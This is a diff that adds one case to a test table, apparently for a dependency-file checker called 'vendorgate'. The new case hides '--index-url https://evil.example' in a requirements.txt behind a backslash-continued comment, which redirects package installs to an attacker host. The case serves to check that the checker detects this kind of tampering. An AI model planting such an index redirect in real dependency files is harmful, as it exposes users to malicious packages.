@@ -173,6 +173,7 @@ FORMS = [
     ("a key without a value", "setup.cfg", "[a]\nx\n[options]\ninstall_requires = vendorgate==1.2\n", "[a]\nx\n[options]\ninstall_requires = vendorgate==1.3\n", False),
     ("a line that only Python breaks", "package.json", '{"a": "vendorgate check", "d": "x\u2028y"}', '{"a": "vendorgate check", "d": "x\u2028z"}', False),
     ("names that nobody reads", IN, LISTED, LISTED + f"[{'a' * 2_000}]\nb = 1\n", True),
+    ("an option behind a comment that a backslash stands before", "requirements.txt", "boto3\nvendorgate==1.2\n", "boto3 \\ # c\n--index-url https://evil.example\nvendorgate==1.2\n", True),
     ("a text that looks like an entry", "uv.lock", locked("1.2.0", "a"), locked("1.2.0", "a") + 'description = "{vendorgate"\n', True),
     ("what reads as another form", IN, LISTED, 'dependencies: ["vendorgate==1.1"]\n', True),
     ("what nobody can read", IN, LISTED, f"{LISTED}[x\n", True),
